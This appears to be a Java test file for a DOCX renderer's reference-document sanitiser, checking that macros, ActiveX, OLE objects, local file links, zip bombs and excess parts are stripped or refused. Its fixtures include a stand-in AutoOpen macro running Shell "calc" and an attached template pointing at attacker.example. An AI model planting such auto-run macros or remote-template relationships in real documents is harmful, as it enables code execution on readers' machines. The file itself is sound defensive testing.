package org.itagen.render.docx;

import org.itagen.ItagenException;
import org.itagen.doc.SampleDocuments;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** A reference DOCX gives styles, page and letterhead, and nothing that could run or reach out. */
class ReferenceDocxTest {
    @TempDir
    Path dir;

    static Map<String, byte[]> entries(byte[] zip) {
        Map<String, byte[]> m = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null; ) m.put(e.getName(), in.readAllBytes());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return m;
    }

    static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zo = new ZipOutputStream(out)) {
            for (var e : entries.entrySet()) {
                zo.putNextEntry(new ZipEntry(e.getKey()));
                zo.write(e.getValue());
                zo.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static String text(Map<String, byte[]> m, String name) {
        return new String(m.get(name), StandardCharsets.UTF_8);
    }

    /**
     * The letterhead saved as Word saves a macro-enabled document (.docm), then renamed .docx: a
     * VBA project, a macro content type, an ActiveX control and an attached template on the web.
     */
    static byte[] docmRenamed() {
        Map<String, byte[]> m = entries(ReferenceDocs.letterhead());
        String ct = text(m, "[Content_Types].xml")
                .replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml")
                .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                        + "<Override PartName=\"/word/vbaData.xml\" ContentType=\"application/vnd.ms-word.vbaData+xml\"/></Types>");
        m.put("[Content_Types].xml", ct.getBytes(StandardCharsets.UTF_8));
        String rels = text(m, "word/_rels/document.xml.rels").replace("</Relationships>",
                "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
                        + "<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/control\" Target=\"activeX/activeX1.xml\"/>"
                        + "</Relationships>");
        m.put("word/_rels/document.xml.rels", rels.getBytes(StandardCharsets.UTF_8));
        m.put("word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\" Sub AutoOpen() Shell \"calc\" End Sub".getBytes(StandardCharsets.UTF_8));
        m.put("word/vbaData.xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>".getBytes(StandardCharsets.UTF_8));
        m.put("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>".getBytes(StandardCharsets.UTF_8));
        String template = "<w:attachedTemplate r:id=\"rIdT\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>";
        String settings = text(m, "word/settings.xml");
        settings = settings.matches("(?s).*<w:settings[^>]*/>.*")
                ? settings.replaceFirst("<w:settings([^>]*)/>", "<w:settings$1>" + template + "</w:settings>")
                : settings.replaceFirst("(<w:settings[^>]*>)", "$1" + template);
        m.put("word/settings.xml", settings.getBytes(StandardCharsets.UTF_8));
        m.put("word/_rels/settings.xml.rels", ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rIdT\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                + " Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>").getBytes(StandardCharsets.UTF_8));
        return zip(m);
    }

    @Test
    void aMacroDocumentRenamedGivesItsLetterheadAndNoMacro() throws IOException {
        Path ref = Files.write(dir.resolve("letterhead.docx"), docmRenamed());
        List<String> log = new java.util.ArrayList<>();
        byte[] out = DocxWriter.render(SampleDocuments.shortSample(), DocxWriter.Options.defaults().withReference(ref).withLog(log::add));
        Map<String, byte[]> m = entries(out);
        assertThat(m.keySet()).noneMatch(n -> n.toLowerCase().contains("vba") || n.contains("activeX") || n.endsWith(".bin"));
        String all = String.join("\n", m.keySet().stream().filter(n -> n.endsWith(".xml") || n.endsWith(".rels"))
                .map(n -> text(m, n)).toList());
        assertThat(all).doesNotContain("macroEnabled").doesNotContain("vbaProject").doesNotContain("attacker.example")
                .doesNotContain("attachedTemplate").doesNotContain("activeX");
        assertThat(text(m, "[Content_Types].xml")).contains("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml");
        String headers = String.join("", m.keySet().stream().filter(n -> n.matches("word/header\\d+\\.xml")).map(n -> text(m, n)).toList());
        assertThat(headers).contains(ReferenceDocs.LETTERHEAD);
        assertThat(text(m, "word/styles.xml")).contains(ReferenceDocs.FONT);
        assertThat(text(m, "word/document.xml")).doesNotContain(ReferenceDocs.BODY_TEXT).contains("w:left=\"2000\"");
        assertThat(log).anyMatch(l -> l.contains("left out of the reference: macros"));
    }

    @Test
    void aZipBombIsRefusedBeforeItIsUnpacked() throws IOException {
        Map<String, byte[]> m = entries(ReferenceDocs.letterhead());
        m.put("word/media/huge.png", new byte[(int) ReferenceDocx.MAX_INFLATED + 1024]); // zeros: deflates to ~70 KB
        Path bomb = Files.write(dir.resolve("bomb.docx"), zip(m));
        assertThat(Files.size(bomb)).isLessThan(1024 * 1024);
        long t0 = System.nanoTime();
        assertThatThrownBy(() -> ReferenceDocx.check(bomb))
                .isInstanceOf(ItagenException.class)
                .satisfies(e -> {
                    ItagenException ie = (ItagenException) e;
                    assertThat(ie.kind()).isEqualTo(ItagenException.Kind.INPUT);
                    assertThat(ie.code()).isEqualTo("error.REFERENCE_INFLATES");
                    assertThat(ie.oneLine()).startsWith(bomb + ": the reference DOCX would unpack to more than 64.0 MB");
                });
        assertThat((System.nanoTime() - t0) / 1_000_000).isLessThan(20_000);
    }

    @Test
    void tooManyPartsOrTooLargeAFileIsRefused() throws IOException {
        Map<String, byte[]> m = entries(ReferenceDocs.letterhead());
        for (int i = 0; i <= ReferenceDocx.MAX_ENTRIES; i++) m.put("word/x/" + i + ".xml", new byte[0]);
        Path many = Files.write(dir.resolve("many.docx"), zip(m));
        assertThatThrownBy(() -> ReferenceDocx.check(many)).isInstanceOf(ItagenException.class)
                .satisfies(e -> assertThat(((ItagenException) e).code()).isEqualTo("error.REFERENCE_TOO_MANY_PARTS"));
    }

    @Test
    void notADocxIsRefusedWithHowToFixIt() throws IOException {
        Path txt = Files.writeString(dir.resolve("notes.docx"), "plain text");
        assertThatThrownBy(() -> ReferenceDocx.check(txt)).isInstanceOf(ItagenException.class)
                .hasMessageContaining("cannot read it as a DOCX").hasMessageContaining("Word Document (*.docx)");
        assertThatThrownBy(() -> ReferenceDocx.check(dir.resolve("none.docx"))).isInstanceOf(ItagenException.class)
                .hasMessageContaining("reference DOCX not found");
    }

    @Test
    void aHeaderPictureIsKeptAndAnEmbeddedObjectIsNot() throws IOException {
        Map<String, byte[]> m = entries(ReferenceDocs.letterhead());
        String header = m.keySet().stream().filter(n -> n.matches("word/header\\d+\\.xml")).findFirst().orElseThrow();
        String rels = "word/_rels/" + header.substring("word/".length()) + ".rels";
        m.put(rels, ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rIdImg\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"media/logo.png\"/>"
                + "<Relationship Id=\"rIdOle\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"embeddings/oleObject1.bin\"/>"
                + "<Relationship Id=\"rIdWeb\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.example.go.th\" TargetMode=\"External\"/>"
                + "<Relationship Id=\"rIdFile\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"file:///C:/secret.txt\" TargetMode=\"External\"/>"
                + "</Relationships>").getBytes(StandardCharsets.UTF_8));
        m.put("word/media/logo.png", new byte[]{(byte) 0x89, 'P', 'N', 'G', 1, 2, 3});
        m.put("word/embeddings/oleObject1.bin", new byte[]{1, 2, 3});
        Path ref = Files.write(dir.resolve("logo.docx"), zip(m));
        Map<String, byte[]> out = entries(DocxWriter.render(SampleDocuments.shortSample(), DocxWriter.Options.defaults().withReference(ref)));
        assertThat(out).containsKey("word/media/logo.png");
        assertThat(out.keySet()).noneMatch(n -> n.contains("embeddings"));
        String outRels = out.keySet().stream().filter(n -> n.startsWith("word/_rels/header")).map(n -> text(out, n))
                .reduce("", String::concat);
        assertThat(outRels).contains("media/logo.png").contains("https://www.example.go.th")
                .doesNotContain("oleObject").doesNotContain("file:///");
    }
}
